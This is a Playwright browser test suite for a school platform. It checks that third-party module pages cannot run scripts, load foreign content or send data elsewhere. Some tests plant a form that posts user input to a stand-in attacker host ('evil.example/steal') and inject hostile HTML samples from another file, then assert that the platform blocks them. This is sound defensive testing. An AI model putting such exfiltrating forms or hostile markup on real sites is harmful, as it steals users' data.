import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { after, before, test } from 'node:test'
import { type BrowserContext, chromium, type Browser as Chromium, type Page } from 'playwright-core'
import { createTestDatabase, type TestDatabase } from '../support/database.ts'
import { createSchool } from '../support/school.ts'
import { startWeb, type TestWeb } from '../support/web.ts'
import { hostileHtml } from './hostile-html.ts'
import { createPerson, installModule, type Person, scriptedGuest } from './support.ts'

const executablePath = '/usr/bin/chromium'
const absent = !existsSync(executablePath) && process.env.CI !== 'true'
const skip = absent ? 'chromium is not installed: pages in a browser are not tested' : false

const args = [
  ...['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking'],
  ...['--disable-component-update', '--disable-sync'],
]

const guest = scriptedGuest()
let database: TestDatabase
let web: TestWeb
let person: Person
let chrome: Chromium
let context: BrowserContext
let page: Page

before(async () => {
  if (skip) return
  database = await createTestDatabase()
  web = await startWeb(database, { moduleCalls: guest })
  const school = await createSchool(database.admin)
  person = await createPerson(database, school)
  await installModule(database, school, 'library')
  chrome = await chromium.launch({ executablePath, args })
  context = await chrome.newContext({ locale: 'ar', viewport: { width: 1100, height: 700 } })
  page = await context.newPage()
})
after(async () => {
  await chrome?.close()
  await web?.close()
  await database?.drop()
})

/** Pictures for people to look at, where a folder is given. */
async function picture(name: string): Promise<void> {
  const folder = process.env.PAGE_PICTURES
  if (folder) await page.screenshot({ path: `${folder}/${name}.png` })
}

test('a person signs in by form and sees the launcher, from right to left', { skip }, async () => {
  await page.goto(`${web.url}/m/library/loans`)
  assert.equal(new URL(page.url()).pathname, '/sign-in')
  await picture('sign-in')
  await page.fill('[name=username]', person.username)
  await page.fill('[name=password]', person.password)
  await page.click('main button')
  assert.equal(new URL(page.url()).pathname, '/m/library/loans', 'back where the person wanted to go')
  await page.goto(web.url)
  await picture('launcher')
  assert.equal(await page.locator('html').getAttribute('dir'), 'rtl')
  const [cookie] = await context.cookies()
  assert.deepEqual([cookie?.httpOnly, cookie?.sameSite], [true, 'Lax'])
})

test('nothing of a hostile page runs, loads or leaves', { skip }, async () => {
  guest.answer = `h200\n<main class="page"><h1>كتب</h1>${hostileHtml.map((html) => `<div>${html}</div>`).join('\n')}</main>`
  const dialogs: string[] = []
  const foreign: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (protocol !== 'data:' && host !== new URL(web.url).host) foreign.push(request.url())
  })
  await page.goto(`${web.url}/m/library`, { waitUntil: 'load' })
  assert.deepEqual([dialogs, foreign], [[], []])
  assert.equal(await page.locator('script, iframe, svg, style, object, [style], [onclick], [onload]').count(), 0)
  assert.equal(await page.locator('.host-bar').count(), 1, 'the bar is the host’s alone')
  assert.equal(await page.locator('[type=password], [type=file]').count(), 0)
  await picture('hostile')
})

test('each hostile text alone runs nothing either', { skip }, async () => {
  for (const html of hostileHtml) {
    guest.answer = `h200\n${html}`
    await page.goto(`${web.url}/m/library`)
    assert.equal(new URL(page.url()).pathname, '/m/library', html)
    assert.equal(await page.locator('.host-bar').count(), 1, html)
  }
})

test('a module’s form posts with the host’s token; a foreign action comes back to the module', { skip }, async () => {
  guest.answer = `h200\n<main class="page"><h1>إعارة كتاب</h1><div class="notice">يعاد الكتاب خلال أسبوعين.</div>
<form class="form" method="post" action="https://evil.example/steal"><label class="field">العنوان<input name="title"></label>
<button class="button">حفظ</button></form>
<table class="table"><thead><tr><th>الكتاب</th><th>الحالة</th><th>النسخ</th></tr></thead><tbody>
<tr><td>كليلة ودمنة</td><td><span class="badge badge-success">متاح</span></td><td class="number">12</td></tr>
<tr><td>البخلاء</td><td><span class="badge badge-danger">متأخر</span></td><td class="number">3</td></tr></tbody></table></main>`
  await page.goto(`${web.url}/m/library/loans`)
  await picture('form')
  await page.fill('[name=title]', 'كليلة ودمنة')
  guest.asked.length = 0
  await page.click('button.button')
  assert.equal(new URL(page.url()).pathname, '/m/library')
  assert.deepEqual((guest.asked[0]!.input as { body: object }).body, { title: 'كليلة ودمنة' })
})

test('the browser itself refuses a form that leads elsewhere', { skip }, async () => {
  await page.goto(`${web.url}/m/library/loans`)
  const refused = page.waitForEvent('console', (message) => /form-action/.test(message.text()))
  await page.locator('form.form').evaluate((form) => {
    form.setAttribute('action', 'https://evil.example/')
    ;(form as unknown as { submit(): void }).submit()
  })
  await refused
  assert.equal(new URL(page.url()).pathname, '/m/library/loans')
})

test('a mobile screen has an origin of its own and reads no cookie', { skip }, async () => {
  guest.answer = 'h200\n<p>شاشة</p>'
  await page.goto(`${web.url}/m/library/mobile/home`)
  assert.equal(await page.evaluate('self.origin'), 'null')
})

test('an error page is plain', { skip }, async () => {
  guest.answer = { ok: false, status: 500, code: 'internal', failure: { kind: 'threw', message: 'secret' } }
  await page.goto(`${web.url}/m/library/loans`)
  await picture('error')
  assert.doesNotMatch(await page.content(), /secret/)
})
